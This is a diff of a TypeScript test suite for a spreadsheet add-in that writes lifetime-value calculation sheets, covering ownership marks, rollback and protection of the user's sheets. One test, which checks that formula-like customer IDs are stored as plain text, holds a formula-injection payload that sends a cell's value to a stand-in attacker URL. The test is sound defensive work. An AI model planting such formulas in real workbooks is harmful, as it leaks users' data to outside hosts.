@@ -7,7 +7,13 @@ import { analyseLedgerForPlan } from "../../src/sheet/ledger-analysis";
 import { buildCalculationPlan, DEFAULT_INPUTS } from "../../src/sheet/plan";
 import type { CalculationPlan } from "../../src/sheet/types";
 import { planRequests, REQUEST_LIMIT_BYTES } from "../../src/taskpane/batches";
-import { nameTarget, unfinishedName, writePlan } from "../../src/taskpane/writer";
+import {
+  nameTarget,
+  SHEET_MARK,
+  unfinishedName,
+  WRITING_MARK,
+  writePlan,
+} from "../../src/taskpane/writer";
 import { evaluatePlan, evaluateSnapshot } from "../sheet/evaluate";
 import { shopLedger } from "../sheet/fixtures";
 
@@ -59,7 +65,9 @@ describe("writePlan", () => {
       else expect(cells[addr].value).toBe(c.value);
       if (c.format) expect(cells[addr].format).toBe(c.format);
     }
-    expect(Object.keys(snap.names).sort()).toEqual(plan.names.map((n) => n.name).sort());
+    expect(Object.keys(snap.names).sort()).toEqual(
+      [...plan.names.map((n) => n.name), SHEET_MARK].sort()
+    );
     expect(snap.names.Result_LTV.ref).toBe("'LTV calculation'!B29");
     expect(snap.sheets["LTV calculation"].validations).toHaveLength(plan.sheet.validations.length);
     expect(snap.sheets["LTV calculation"].conditionalFormats).toHaveLength(
@@ -164,7 +172,7 @@ describe("writePlan", () => {
     const manual = buildCalculationPlan(DEFAULT_INPUTS, "en");
     await write(fake, manual, { replace: true });
     expect(Object.keys(fake.snapshot().names).sort()).toEqual(
-      manual.names.map((n) => n.name).sort()
+      [...manual.names.map((n) => n.name), SHEET_MARK].sort()
     );
   });
 
@@ -250,7 +258,8 @@ describe("writePlan: unfinished sheets and names that are not ours", () => {
     expect(fake.state.log).toContain("worksheets.add");
     const added = fake.state.log.indexOf("worksheets.add");
     const renamed = fake.state.log.indexOf("worksheet.name");
-    const firstName = fake.state.log.indexOf("names.add");
+    // the first names.add is the writing mark on the unfinished sheet; the plan's names come after the rename
+    const firstName = fake.state.log.indexOf("names.add", fake.state.log.indexOf("names.add") + 1);
     const lastCell = fake.state.log.lastIndexOf("formulas");
     expect(added).toBeLessThan(lastCell);
     expect(renamed).toBeGreaterThan(lastCell); // after every cell
@@ -335,6 +344,8 @@ describe("writePlan: unfinished sheets and names that are not ours", () => {
     const fake = createFakeOffice({
       sheets: { Sales: [], "LTV calculation (writing…)": [["half"]] },
     });
+    // ours: the writing mark points at it
+    fake.state.names.set(WRITING_MARK, { ref: "'LTV calculation (writing…)'!A1" });
     fake.state.names.set("Result_LTV", { ref: "'LTV calculation (writing…)'!B29" });
     fake.state.names.set("Ledger_Orders", { ref: "#REF!E7:E9" });
     const report = await write(fake, manual());
@@ -358,12 +369,155 @@ describe("writePlan: unfinished sheets and names that are not ours", () => {
       `'LTV calculation'!${own.range}`
     );
     // every other name is workbook-wide as usual
-    expect(Object.keys(snap.names).sort()).toEqual(plan.names.map((n) => n.name).sort());
+    expect(Object.keys(snap.names).sort()).toEqual(
+      [...plan.names.map((n) => n.name), SHEET_MARK].sort()
+    );
     // and replacing keeps it so
     const again = await write(fake, plan, { replace: true });
     expect(again.sheetScopedNames).toEqual(["Input_AvgOrder"]);
     snap = fake.snapshot();
     expect(snap.names.Input_AvgOrder).toEqual({ ref: "Prices!A1", comment: "the user's" });
     expect(snap.order).toEqual(["Sales", "Prices", "LTV calculation"]);
+  });
+});
+
+describe("writePlan writes data as data", () => {
+  it("customer ids that look like formulas are written as text in the summary, never as formulas", async () => {
+    const ids = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      "+81-90-1234-5678",
+      "-A1*10",
+      "@SUM(A1:A9)",
+      "00123",
+    ];
+    const rows: (string | number)[][] = [["顧客ID", "購入日", "金額"]];
+    ids.forEach((id, i) => {
+      rows.push([id, 45300 + i, 1000]);
+      rows.push([id, 45340 + i, 1200]);
+    });
+    const ledger = readLedger(
+      {
+        customers: rows.map((r) => r[0]),
+        dates: rows.map((r) => r[1]),
+        amounts: rows.map((r) => r[2]),
+      },
+      { mode: "lenient" }
+    );
+    const plan = buildCalculationPlan(
+      { ...DEFAULT_INPUTS, periodUnit: "month" },
+      "en",
+      analyseLedgerForPlan(ledger, "month", { source: "Sales!A1:C11" })
+    );
+    const fake = createFakeOffice({ sheets: { Sales: rows } });
+    await write(fake, plan);
+    const cells = fake.snapshot().sheets["LTV calculation"].cells as Record<
+      string,
+      { formula?: string; value?: unknown }
+    >;
+    const held = Object.values(cells).map((c) => c.value);
+    for (const id of ids) expect(held).toContain(id);
+    const formulas = Object.values(cells)
+      .map((c) => c.formula)
+      .filter((f): f is string => f !== undefined);
+    for (const id of ids)
+      expect(formulas.some((f) => f.includes(id.replace(/^[=@]/, "")))).toBe(false);
+  });
+});
+
+describe("writePlan owns its sheets by a mark, not by name", () => {
+  const manual = () => buildCalculationPlan(DEFAULT_INPUTS, "en");
+  const ours = (snap: { names: Record<string, { ref: string; hidden?: boolean }> }) =>
+    snap.names[SHEET_MARK];
+
+  it("a user's sheet named like ours is never replaced: the calculation goes beside it, and the report says so", async () => {
+    const fake = createFakeOffice({
+      sheets: { Sales: [["a"]], "LTV calculation": [["the user's own"]] },
+    });
+    const before = JSON.stringify(fake.snapshot().sheets["LTV calculation"]);
+    const first = await write(fake, manual());
+    expect(first).toMatchObject({
+      status: "written",
+      sheet: "LTV calculation (2)",
+      sheetKept: "LTV calculation",
+    });
+    expect(ours(fake.snapshot())).toEqual({
+      ref: "'LTV calculation (2)'!A1",
+      comment: undefined,
+      hidden: true,
+    });
+    // the next write finds its own sheet by the mark and asks before replacing it; the user's stays
+    expect(await write(fake, manual())).toMatchObject({
+      status: "exists",
+      sheet: "LTV calculation (2)",
+    });
+    const again = await write(
+      fake,
+      buildCalculationPlan({ ...DEFAULT_INPUTS, avgOrder: 500 }, "en"),
+      {
+        replace: true,
+      }
+    );
+    expect(again).toMatchObject({ status: "written", sheet: "LTV calculation (2)" });
+    const snap = fake.snapshot();
+    expect(JSON.stringify(snap.sheets["LTV calculation"])).toBe(before);
+    expect(snap.sheets["LTV calculation (2)"].cells.B8.value).toBe(500);
+    expect(snap.names.Result_LTV.ref).toBe("'LTV calculation (2)'!B29");
+  });
+
+  it("a user's sheet named like our unfinished one is never deleted", async () => {
+    const fake = createFakeOffice({
+      sheets: { Sales: [], "LTV calculation (writing…)": [["mine, keep it"]] },
+    });
+    const report = await write(fake, manual());
+    expect(report.sheet).toBe("LTV calculation (2)");
+    expect(fake.snapshot().sheets["LTV calculation (writing…)"].cells.A1.value).toBe(
+      "mine, keep it"
+    );
+  });
+
+  it("a failure at any operation of the finishing request: the old sheet with all its names, or the new one complete", async () => {
+    const plan = buildCalculationPlan({ ...DEFAULT_INPUTS, avgOrder: 500 }, "en");
+    const wanted = [...plan.names.map((n) => n.name), SHEET_MARK].sort();
+    const fresh = async () => {
+      const fake = createFakeOffice({ sheets: { Sales: [["a", 1]], Other: [["keep me"]] } });
+      await write(fake, manual());
+      return fake;
+    };
+    // where the last request's operations are, from a write that succeeds
+    const probe = await fresh();
+    const start = probe.state.log.length;
+    await write(probe, plan, { replace: true });
+    const log: string[] = probe.state.log;
+    const lastRequest = log.lastIndexOf("suspendApiCalculationUntilNextSync");
+    const finishing = log.indexOf("worksheet.delete", lastRequest);
+    expect(finishing).toBeGreaterThan(start);
+    const end = log.length;
+    let rolledBack = 0;
+    let completed = 0;
+    // every finishing operation, and the last few cell writes before them
+    for (let at = finishing - 5; at < end; at++) {
+      const fake = await fresh();
+      const before = fake.snapshot();
+      fake.state.failAt = fake.state.log.length + (at - start);
+      await expect(write(fake, plan, { replace: true })).rejects.toThrow(/injected/);
+      const snap = fake.snapshot();
+      expect(snap.order.filter((n: string) => n.includes("writing"))).toEqual([]);
+      expect(snap.sheets.Other).toEqual(before.sheets.Other);
+      expect(snap.sheets.Sales).toEqual(before.sheets.Sales);
+      expect(Object.keys(snap.names).sort()).toEqual(wanted);
+      for (const n of plan.names) expect(snap.names[n.name].ref).toMatch(/^'LTV calculation'!/);
+      expect(ours(snap).ref).toBe("'LTV calculation'!A1");
+      const b8 = snap.sheets["LTV calculation"].cells.B8.value;
+      if (b8 === 415) {
+        rolledBack++;
+        const state = (x: typeof snap) => ({ sheets: x.sheets, order: x.order, names: x.names });
+        expect(state(snap)).toEqual(state(before));
+      } else {
+        completed++;
+        expect(b8).toBe(500);
+      }
+    }
+    expect(rolledBack).toBeGreaterThan(0);
+    expect(completed).toBeGreaterThan(0);
   });
 });
